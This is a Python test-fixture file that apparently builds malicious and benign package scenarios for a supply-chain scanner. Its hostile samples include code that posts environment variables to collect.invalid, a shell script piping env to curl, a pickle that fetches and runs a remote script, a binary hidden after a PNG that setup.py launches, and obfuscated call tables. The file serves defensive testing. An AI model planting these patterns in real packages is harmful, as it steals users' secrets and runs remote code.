# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Files that a package ships and its own code runs: scripts, archives, pickles, programs, code in data; and honest twins."""

from __future__ import annotations

import base64
import gzip
import io
import json
import pickle
import tarfile
import zipfile
import zlib

from scenario_kit import SETUP, Scenario, sdist, wheel

EVIL = "import os, requests\nrequests.post('https://collect.invalid/v1', json=dict(os.environ))\n"
CODE = base64.b64encode(EVIL.encode()).decode()
GUARDED = "import os, requests\ndef main():\n    requests.post('https://collect.invalid/v1', json=dict(os.environ))\nif __name__ == '__main__':\n    main()\n"
SHELL = "#!/bin/sh\nenv | curl -s --data-binary @- http://203.0.113.9/e\n"
HERE = "import os, sys\nHERE = os.path.dirname(os.path.abspath(__file__))\n"
REDUCE = b"cos\nsystem\n(S'curl -s http://203.0.113.5/x | sh'\ntR."
"""A pickle that starts a command: text, never loaded."""
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)


def zipped(**files: str | bytes) -> bytes:
    """Return a zip; `__` in a name stands for a dot."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__DOT__", "."), data)
    return packed.getvalue()


def tarred(name: str, data: bytes) -> bytes:
    """Return a tar.gz of one file."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return packed.getvalue()


RUN = {
    "script-by-shell-text": (
        "import os\nos.system('sh %s/setup.sh' % os.path.dirname(__file__))\n",
        {"setup.sh": SHELL},
    ),
    "script-by-execv": (
        HERE + "if os.fork() == 0:\n    os.execv('/bin/sh', ['sh', os.path.join(HERE, 'setup.sh')])\n",
        {"setup.sh": SHELL},
    ),
    "script-by-its-own-path": (
        HERE + "import subprocess\nos.chmod(HERE + '/setup.sh', 0o755)\nsubprocess.call([HERE + '/setup.sh'])\n",
        {"setup.sh": SHELL},
    ),
    "script-by-env-and-nohup": (
        HERE + "import subprocess\nsubprocess.Popen(['/usr/bin/env', 'nohup', 'bash', HERE + '/setup.sh'])\n",
        {"setup.sh": SHELL},
    ),
    "script-in-a-list-built-up": (
        HERE + "import subprocess\ncmd = ['bash']\nsubprocess.Popen(cmd + ['-x', os.path.join(HERE, 'setup.sh')])\n",
        {"setup.sh": SHELL},
    ),
    "script-that-a-helper-starts": (
        HERE + "import subprocess\ndef launch(argv):\n    subprocess.Popen(argv)\nlaunch(['sh', HERE + '/setup.sh'])\n",
        {"setup.sh": SHELL},
    ),
    "script-by-pathlib": (
        "import subprocess\nfrom pathlib import Path\nsubprocess.run(['sh', str(Path(__file__).parent / 'setup.sh')])\n",
        {"setup.sh": SHELL},
    ),
    "script-by-importlib-resources": (
        "import subprocess\nfrom importlib.resources import files\nsubprocess.run(['sh', str(files('acme').joinpath('setup.sh'))])\n",
        {"setup.sh": SHELL},
    ),
    "script-with-a-data-name": (
        HERE + "import subprocess\nsubprocess.run(['sh', HERE + '/theme.dat'])\n",
        {"theme.dat": SHELL},
    ),
    "script-that-starts-another": (
        HERE + "import subprocess\nsubprocess.run(['sh', HERE + '/a.sh'])\n",
        {"a.sh": "cd /tmp\nsh ./b.sh\n", "b.sh": SHELL},
    ),
    "python-by-executable": (
        HERE + "import subprocess\nsubprocess.Popen([sys.executable, os.path.join(HERE, 'tool.py')])\n",
        {"tool.py": GUARDED},
    ),
    "python-by-module": (
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'acme.tool'])\n",
        {"tool.py": GUARDED},
    ),
    "python-of-a-text-file": (
        HERE + "import subprocess\nsubprocess.Popen([sys.executable, HERE + '/notes.txt'])\n",
        {"notes.txt": EVIL},
    ),
    "python-zipapp": (
        HERE + "import subprocess\nsubprocess.Popen([sys.executable, HERE + '/tool.pyz'])\n",
        {"tool.pyz": zipped(__main____DOT__py=EVIL)},
    ),
    "runpy-module": ("import runpy\nrunpy.run_module('acme.tool', run_name='__main__')\n", {"tool.py": GUARDED}),
    "runpy-of-archive": (
        HERE + "import runpy\nrunpy.run_path(HERE + '/res.bin')\n",
        {"res.bin": zipped(__main____DOT__py=EVIL)},
    ),
    "spec-from-file-of-data": (
        HERE
        + "import importlib.util\nspec = importlib.util.spec_from_file_location('x', HERE + '/style.css')\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
        {"style.css": EVIL},
    ),
    "source-file-loader": (
        HERE
        + "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', HERE + '/style.css').load_module()\n",
        {"style.css": EVIL},
    ),
    "exec-of-shipped-text": (HERE + "exec(open(os.path.join(HERE, 'theme.txt')).read())\n", {"theme.txt": EVIL}),
    "exec-of-pkgutil-data": (
        "import pkgutil\nexec(pkgutil.get_data('acme', 'theme.txt').decode())\n",
        {"theme.txt": EVIL},
    ),
    "exec-of-gzip-data": (
        HERE + "import gzip\nexec(gzip.open(HERE + '/x.gz').read())\n",
        {"x.gz": gzip.compress(EVIL.encode())},
    ),
    "exec-of-archive-member": (
        HERE + "import zipfile\nexec(zipfile.ZipFile(HERE + '/x.zip').read('a/b.txt'))\n",
        {"x.zip": zipped(**{"a/b__DOT__txt": EVIL})},
    ),
    "exec-of-json-list": (
        HERE
        + "import base64, json\nDATA = json.load(open(HERE + '/t.json'))\nexec(base64.b64decode(''.join(DATA['parts'])))\n",
        {
            "t.json": json.dumps({"parts": [CODE[:40], CODE[40:]]}),
        },
    ),
    "wheels-of-a-folder": (
        HERE
        + "import glob\nfor one in glob.glob(os.path.join(HERE, 'vendor', '*.whl')):\n    sys.path.insert(0, one)\nimport hidden\n",
        {"vendor/deps.whl": zipped(hidden__DOT__py=EVIL)},
    ),
    "archive-from-shutil": (
        HERE
        + "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.unpack_archive(HERE + '/x.tgz', d)\nsys.path.append(d)\nimport hidden\n",
        {"x.tgz": tarred("hidden.py", EVIL.encode())},
    ),
    "archive-from-its-bytes": (
        HERE
        + "import io, pkgutil, tempfile, zipfile\nd = tempfile.mkdtemp()\nzipfile.ZipFile(io.BytesIO(pkgutil.get_data('acme', 'x.bin'))).extractall(d)\nsys.path.append(d)\nimport hidden\n",
        {"x.bin": zipped(hidden__DOT__py=EVIL)},
    ),
    "pickle-compressed-by-joblib": (
        HERE + "import joblib\nMODEL = joblib.load(os.path.join(HERE, 'model.joblib'))\n",
        {"model.joblib": zlib.compress(REDUCE)},
    ),
    "archive-in-archive": (
        HERE + "sys.path.insert(0, HERE + '/a.zip')\nimport first\n",
        {
            "a.zip": zipped(
                first__DOT__py="import sys\nsys.path.insert(0, sys.path[0] + '/b.zip')\nimport hidden\n",
                b__DOT__zip=zipped(hidden__DOT__py=EVIL),
            )
        },
    ),
    "pickle-by-joblib": (
        HERE + "import joblib\nMODEL = joblib.load(os.path.join(HERE, 'model.pkl'))\n",
        {"model.pkl": REDUCE},
    ),
    "pickle-by-pandas": (HERE + "import pandas as pd\nTABLE = pd.read_pickle(HERE + '/t.pkl')\n", {"t.pkl": REDUCE}),
    "pickle-by-torch": (
        HERE + "import torch\nNET = torch.load(HERE + '/net.pt')\n",
        {"net.pt": zipped(**{"archive/data__DOT__pkl": pickle.PROTO + b"\x02" + REDUCE, "archive/version": "3"})},
    ),
    "pickle-in-gzip": (
        HERE + "import gzip, pickle\nM = pickle.load(gzip.open(HERE + '/m.gz'))\n",
        {"m.gz": gzip.compress(REDUCE)},
    ),
    "pickle-in-resources": (
        "import pickle\nfrom importlib import resources\nM = pickle.loads(resources.files('acme').joinpath('m.dat').read_bytes())\n",
        {"m.dat": REDUCE},
    ),
    "pickle-by-context-manager": (
        HERE + "import pickle\nwith open(os.path.join(HERE, 'm.pkl'), 'rb') as f:\n    M = pickle.load(f)\n",
        {"m.pkl": REDUCE},
    ),
    "pickle-in-numpy": (
        HERE + "import numpy as np\nA = np.load(HERE + '/a.npy', allow_pickle=True)\n",
        {
            "a.npy": b"\x93NUMPY\x01\x00v\x00"
            + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
            + b"\n"
            + REDUCE
        },
    ),
    "javascript-by-bun": (
        HERE
        + "import subprocess, shutil\nsubprocess.Popen([shutil.which('bun') or HERE + '/bun', 'run', HERE + '/index.js'])\n",
        {"index.js": "fetch('https://collect.invalid')\n"},
    ),
    "native-by-ctypes-quietly": (
        HERE
        + "import ctypes, subprocess\nsubprocess.Popen([HERE + '/bin/agent'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
        {"bin/agent": ELF},
    ),
    "module-that-is-packed": (
        "from acme import core\n",
        {"core.abi3.so": b"\x7fELF\x02\x01\x01" + bytes(121) + b"UPX!" + bytes(900)},
    ),
    "module-with-a-command-inside": (
        "from acme import core\n",
        {"core.cpython-311-x86_64-linux-gnu.so": ELF + b"\0curl -s http://203.0.113.5/x | sh\0"},
    ),
    "module-with-a-chat-hook-inside": (
        "from acme import core\n",
        {"core.pyd": b"MZ" + bytes(200) + b"https://discord.com/api/webhooks/1/abcdefghijklmnop\0"},
    ),
    "library-that-is-packed": (
        HERE + "import ctypes\nctypes.CDLL(HERE + '/libx.so')\n",
        {"libx.so": b"\x7fELF\x02\x01\x01" + bytes(121) + b"UPX!" + bytes(900)},
    ),
    "code-in-a-file-too-long-to-follow": (
        HERE + "exec(open(HERE + '/theme.txt').read())\n",
        {"theme.txt": EVIL + "#" * (17 << 20)},
    ),
    "script-too-long-to-follow": (
        HERE + "import subprocess\nsubprocess.run([sys.executable, HERE + '/theme.txt'])\n",
        {"theme.txt": EVIL + "#" * (17 << 20)},
    ),
    "names-from-tables": (
        "import importlib\nT = {'m': 'os', 'f': 'system', 'a': 'curl -s http://203.0.113.5/x | sh'}\ngetattr(importlib.import_module(T['m']), T['f'])(T['a'])\n",
        {},
    ),
}

HONEST: dict[str, tuple[str, dict[str, str | bytes]]] = {
    "plugins-of-a-folder": (
        HERE
        + "import importlib.util\ndef load():\n    for name in os.listdir(os.path.join(HERE, 'plugins')):\n        spec = importlib.util.spec_from_file_location(name, os.path.join(HERE, 'plugins', name))\n        module = importlib.util.module_from_spec(spec)\n        spec.loader.exec_module(module)\n",
        {"plugins/csv_reader.py": "import csv\ndef read(path):\n    return list(csv.reader(open(path)))\n"},
    ),
    "runs-its-own-module": (
        "import runpy\ndef main(argv):\n    runpy.run_module('acme.server', run_name='__main__')\n",
        {
            "server.py": "from http.server import HTTPServer, SimpleHTTPRequestHandler\nif __name__ == '__main__':\n    HTTPServer(('127.0.0.1', 8000), SimpleHTTPRequestHandler).serve_forever()\n"
        },
    ),
    "starts-a-worker-of-its-own": (
        "import subprocess, sys\ndef start():\n    return subprocess.Popen([sys.executable, '-m', 'acme.worker'])\n",
        {"worker.py": "import time\nif __name__ == '__main__':\n    time.sleep(1)\n"},
    ),
    "model-loader": (
        HERE
        + "import pickle\ndef load():\n    with open(os.path.join(HERE, 'model.pkl'), 'rb') as f:\n        return pickle.load(f)\n",
        {"model.pkl": pickle.dumps({"weights": [0.1, 0.2], "names": ("a", "b")})},
    ),
    "model-loaded-at-import": (
        HERE + "import joblib\nMODEL = joblib.load(os.path.join(HERE, 'model.pkl'))\n",
        {"model.pkl": pickle.dumps({"weights": [0.1, 0.2]}, 2)},
    ),
    "vendored-wheels": (
        HERE
        + "import glob\ndef bootstrap(args):\n    sys.path[:0] = glob.glob(os.path.join(HERE, '_bundled', '*.whl'))\n    from pip._internal.cli.main import main\n    return main(args)\n",
        {
            "_bundled/pip-24.0-py3-none-any.whl": zipped(
                **{
                    "pip/__init____DOT__py": "__version__ = '24.0'\n",
                    "pip/_internal/cli/main__DOT__py": "import requests\ndef main(args):\n    return requests.get('https://index.invalid/simple/').status_code\n",
                }
            )
        },
    ),
    "version-file": (
        HERE + "about = {}\nexec(open(os.path.join(HERE, '_version.py')).read(), about)\n",
        {"_version.py": "__version__ = '1.0'\n"},
    ),
    "settings-in-json": (
        HERE
        + "import json\nwith open(os.path.join(HERE, 'settings.json')) as f:\n    SETTINGS = json.load(f)\nNAME = SETTINGS['en']['title']\n",
        {"settings.json": '{"en": {"title": "Acme"}}'},
    ),
    "wrapper-of-a-shipped-tool": (
        HERE
        + "import subprocess\ndef main():\n    return subprocess.call([os.path.join(HERE, 'bin', 'tool'), *sys.argv[1:]])\n",
        {"bin/tool": ELF},
    ),
    "installer-script-on-command": (
        HERE
        + "import subprocess\ndef install_completion():\n    subprocess.run(['sh', os.path.join(HERE, 'completion.sh')], check=True)\n",
        {
            "completion.sh": "#!/bin/sh\nmkdir -p /tmp/acme\necho 'complete -W \"run stop\" acme' > /tmp/acme/completion\n"
        },
    ),
    "lazy-names-from-table": (
        "import importlib\n_LAZY = {'Reader': ('acme.io', 'Reader'), 'dumps': ('json', 'dumps'), 'system': ('platform', 'system')}\ndef __getattr__(name):\n    module, attr = _LAZY[name]\n    return getattr(importlib.import_module(module), attr)\n",
        {"io.py": "class Reader:\n    pass\n"},
    ),
    "bits-of-a-shipped-table": (
        HERE + "text = open(os.path.join(HERE, 'mask.txt')).read()\nBITS = [1 if c == '#' else 0 for c in text]\n",
        {"mask.txt": "##..##\n"},
    ),
    "module-with-addresses-of-its-manual": (
        "from acme import core\n",
        {
            "core.cpython-311-x86_64-linux-gnu.so": ELF
            + b"\0https://docs.acme.invalid/manual\0http://www.w3.org/2000/svg\0"
        },
    ),
    "large-model-as-a-pickle": (
        HERE + "import pickle\nMODEL = pickle.load(open(HERE + '/model.pkl', 'rb'))\n",
        {"model.pkl": pickle.dumps(bytes(17 << 20))},
    ),
    "git-command-list": (
        "import subprocess\ndef revision(folder):\n    return subprocess.check_output(['git', '-C', folder, 'rev-parse', 'HEAD'], text=True).strip()\n",
        {},
    ),
    "quiet-service-on-command": (
        HERE
        + "import subprocess\ndef serve():\n    return subprocess.Popen([HERE + '/bin/server'], stdout=subprocess.DEVNULL, start_new_session=True)\n",
        {"bin/server": ELF},
    ),
}

BUILD = 'from setuptools import setup\nimport os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\nsubprocess.check_call(["node", os.path.join(here, "scripts", "build.js")])\nsubprocess.check_call(["sh", os.path.join(here, "build.sh")])\nsetup(name="acme", version="1.2.0", packages=["acme"])\n'

SCENARIOS: list[Scenario] = [
    *(
        wheel(name, "look", {"acme/__init__.py": source, **{f"acme/{path}": data for path, data in files.items()}})
        for name, (source, files) in RUN.items()
    ),
    *(
        wheel(
            f"twin-{name}",
            "quiet",
            {"acme/__init__.py": source, **{f"acme/{path}": data for path, data in files.items()}},
        )
        for name, (source, files) in HONEST.items()
    ),
    sdist(
        "setup-runs-shipped-script",
        "look",
        {
            "setup.py": 'import subprocess\nsubprocess.call(["bash", "tools/configure.sh"])\n' + SETUP.lstrip(),
            "tools/configure.sh": SHELL,
        },
    ),
    sdist(
        "setup-runs-what-follows-a-picture",
        "look",
        {
            "setup.py": "import os, subprocess, tempfile\n"
            "data = open('docs/logo.png', 'rb').read()\n"
            "path = os.path.join(tempfile.gettempdir(), 'go-build')\n"
            "with open(path, 'wb') as file:\n    file.write(data[data.rfind(b'IEND') + 8:])\n"
            "os.chmod(path, 0o755)\nsubprocess.Popen([path])\n" + SETUP.lstrip(),
            "docs/logo.png": b"\x89PNG\r\n\x1a\nIEND\xaeB`\x82" + ELF,
        },
    ),
    sdist(
        "twin-setup-copies-its-picture",
        "quiet",
        {
            "setup.py": "import os, subprocess, tempfile\n"
            "data = open('docs/logo.png', 'rb').read()\n"
            "path = os.path.join(tempfile.gettempdir(), 'logo.png')\n"
            "with open(path, 'wb') as file:\n    file.write(data)\n"
            "subprocess.call(['git', 'describe'])\n" + SETUP.lstrip(),
            "docs/logo.png": b"\x89PNG\r\n\x1a\nIEND\xaeB`\x82",
        },
    ),
    sdist(
        "twin-setup-builds-its-frontend",
        "quiet",
        {
            "setup.py": BUILD,
            "scripts/build.js": "require('fs').copyFileSync('a', 'b')\n",
            "build.sh": "#!/bin/sh\nset -e\nmake -C native all\n",
        },
    ),
]
